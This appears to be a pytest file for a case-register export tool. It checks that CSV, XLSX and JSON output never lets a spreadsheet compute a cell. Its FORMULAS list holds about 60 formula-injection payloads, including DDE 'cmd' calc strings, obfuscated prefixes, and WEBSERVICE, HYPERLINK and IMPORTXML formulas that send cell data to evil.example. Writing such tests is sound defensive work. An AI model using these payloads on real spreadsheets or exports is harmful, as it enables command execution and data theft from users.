"""The register in its three forms; in none of them a stranger's words are computed (reliability.md T34)."""

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from itertools import chain
from pathlib import Path
from unicodedata import normalize

import pytest
from openpyxl import load_workbook

from maild.cli import main
from maild.cli.sheet import as_csv, as_xlsx
from maild.core.case import Case, Dossier, Note, State
from maild.core.event import Reporter
from maild.core.letter import Field, Fields, Head, Letter
from maild.store.cases import CaseStore
from maild.store.durable import Disk

NOW = datetime(2026, 11, 24, 1, 15, tzinfo=UTC)
DAEMON = Path(__file__).parents[2] / "daemon.py"
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁺", "₌", "−")
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\u202e", "\ufeff", "\x00", "\u2800", "\u3164", "\u034f")
FORMULAS = (
    *(f"{before}{sign}1+1" for sign in ("=", "＝") for before in _BEFORE),
    *(f"{sign}cmd|' /C calc'!A0" for sign in _SIGNS),
    '=HYPERLINK("http://evil.example?x="&A1,"klik")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+62812-5550-0143",
    "=1+1;=2+2",
    "aman;=1+1",
    'aman";=1+1',
    'aman","=1+1',
    "aman; \t=1+1",
    "aman;＝1+1",
    "aman\r\n=1+1",
    "aman\n+1",
    "aman\x85=1+1",
    "aman\u2028@SUM(A1)",
    "\t\t=1+1",
    "\r\n-1",
    "  ​ =1+1",
    "=\x001+1",
    "{=1+1}",
    "==1",
    "=-1",
    "%0A-3+3+cmd",
    "\ud83d=1+1",
)
_COMPUTED = "=+-@−"


def a_case(number: int, words: str) -> Dossier:
    storable = words.encode("utf-8", "replace").decode()
    fields = Fields(*(Field(storable) for _ in range(5)))
    case = Case(
        f"key-{number}", f"PGJ-2026-{number:04}", State.CLOSED, opened=NOW, reporter=Reporter("=a+b@upt.example"),
        letter=Letter(fields=fields, head=Head(storable, NOW.date(), storable), category=(storable, "fiber_optik")),
        directive=Note(NOW, "kabag@kanwil.example", storable), team="jaringan", letter_number=storable, ended=NOW,
    )  # fmt: skip
    return Dossier(case)


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("kantor") / "kantor"
    with pytest.raises(SystemExit):
        main(["init", str(folder)])
    store = CaseStore(folder / "data" / "cases", Disk())
    for number, words in enumerate(("Lapas Kediri", *FORMULAS), start=1):
        store.commit(a_case(number, words))
    return folder


Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(office: Path, capsys: pytest.CaptureFixture[str]) -> Run:
    def run(*arguments: str) -> tuple[int, str, str]:
        with pytest.raises(SystemExit) as ended:
            main(["-c", str(office / "maild.toml"), "register", "--year", "2026", *arguments])
        said = capsys.readouterr()
        return int(ended.value.code or 0), said.out, said.err

    return run


def is_computed(cell: str) -> bool:
    """Look at a cell as the most credulous spreadsheet does."""
    return normalize("NFKC", cell).lstrip("\0\t\r\n \u00a0\u034f\u2800\u3164\u200b\u202e\ufeff")[:1] in tuple(_COMPUTED)


def test_there_are_60_formulas():
    assert len(set(FORMULAS)) >= 60


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_csv_is_computed_whatever_parts_the_cells(run: Run, delimiter: str):
    code, text, _ = run("--format", "csv")
    cells = list(chain.from_iterable(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)))

    assert (code, len(cells) > len(FORMULAS)) == (0, True)
    assert [cell for cell in cells if is_computed(cell)] == []


def test_every_cell_of_the_csv_is_quoted_and_stands_on_the_line_of_its_case(run: Run):
    header, *lines = run("--format", "csv")[1].split("\r\n")[:-1]

    assert len(lines) == len(FORMULAS) + 1
    assert all(line.startswith('"') and line.endswith('"') for line in (header, *lines))
    assert all(ord(character) >= 32 for line in lines for character in line)


def test_in_the_csv_a_phone_number_keeps_all_its_digits_behind_an_apostrophe(run: Run):
    row = list(csv.DictReader(io.StringIO(run("--format", "csv")[1])))[1 + FORMULAS.index("+62812-5550-0143")]

    assert (row["phone"], row["unit"], row["opened"]) == ("'+62812-5550-0143",) * 2 + ("2026-11-24T08:15:00+07:00",)


def test_no_cell_of_the_sheet_is_anything_but_a_text(run: Run, tmp_path: Path):
    path = tmp_path / "register.xlsx"
    code, out, _ = run("--format", "xlsx", "--out", str(path))
    sheet = load_workbook(path).active
    cells = list(chain.from_iterable(sheet.iter_rows()))

    assert (code, out, path.stat().st_mode & 0o777) == (0, "", 0o600)
    assert sheet.max_row == len(FORMULAS) + 2
    assert [cell.value for cell in cells if cell.data_type == "f" or not isinstance(cell.value, str | None)] == []
    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)


def test_the_sheet_is_laid_out_for_people(run: Run, tmp_path: Path):
    path = tmp_path / "register.xlsx"
    run("--format", "xlsx", "-o", str(path))
    sheet = load_workbook(path).active
    heading, first = (dict(zip("ABCDEFGHIJKLMNOPQRSTUV", row, strict=True)) for row in list(sheet.iter_rows())[:2])

    assert (sheet.title, sheet.freeze_panes) == ("Register 2026", "A2")
    assert all(cell.font.bold for cell in heading.values())
    assert not any(cell.font.bold for cell in first.values())
    assert [heading[column].value for column in "ABEGI"] == [
        "Nomor Register", "Status", "Nama Unit", "No. HP/WA", "Permintaan Penyelesaian",
    ]  # fmt: skip
    assert [first[column].value for column in "ABEMN"] == [
        "PGJ-2026-0001", "Selesai, hasil telah disampaikan", "Lapas Kediri", "Tim Teknis Data dan Jaringan",
        "2026-11-24 08.15",
    ]  # fmt: skip
    assert sheet.column_dimensions["A"].width >= len("Nomor Register")


def test_the_json_has_the_letters_own_words(run: Run):
    rows = json.loads(run("--format", "json")[1])

    assert [row["unit"] for row in rows[1:-1]] == list(FORMULAS[:-1])
    assert list(rows[0]) == next(csv.reader(io.StringIO(run("--format", "csv")[1])))


def test_the_sheet_goes_down_a_pipe_as_it_is(office: Path):
    command = (sys.executable, DAEMON, "-c", office / "maild.toml", "register", "--year", "2026", "--format", "xlsx")
    done = subprocess.run([str(word) for word in command], capture_output=True, check=True)

    assert load_workbook(io.BytesIO(done.stdout)).active.max_row == len(FORMULAS) + 2


def test_a_year_without_cases_is_a_heading_alone(office: Path, tmp_path: Path):
    for form in ("csv", "xlsx", "json"):
        with pytest.raises(SystemExit) as ended:
            main(["-c", str(office / "maild.toml"), "register", "--year", "1999", "--format", form, "-o",
                  str(tmp_path / f"register.{form}")])  # fmt: skip
        assert ended.value.code == 0

    assert (tmp_path / "register.json").read_text() == "[]\n"
    assert len((tmp_path / "register.csv").read_text().splitlines()) == 1
    assert load_workbook(tmp_path / "register.xlsx").active.max_row == 1


def test_a_file_that_cannot_be_written_is_said(run: Run, tmp_path: Path):
    code, _, err = run("-o", str(tmp_path / "nosuch" / "register.csv"))

    assert (code, "cannot be written: No such file or directory" in err) == (1, True)


def test_a_cell_longer_than_a_sheet_can_hold_is_cut_and_the_file_stays_whole():
    rows = [["Uraian"], ["👍" * 40_000]]
    (cell,) = list(load_workbook(io.BytesIO(as_xlsx("Register", [("Register", rows)], NOW))).active.iter_rows())[1]

    assert cell.value == "👍" * 16_000
    assert len(as_csv(rows)) < 17_000


@pytest.mark.parametrize("words", ["A-1", "3+4", "a@b.example", "'=1", "Lapas; Rutan", "a;b-c", 'Kab. "Kediri"'])
def test_honest_words_stay_as_they_are(words: str):
    assert next(csv.reader([as_csv([[words]])])) == [words]


def test_a_sheet_made_again_says_the_same():
    rows = [["Nomor"], ["PGJ-2026-0001"]]

    assert as_xlsx("Register", [("Register", rows)], NOW) == as_xlsx("Register", [("Register", rows)], NOW)
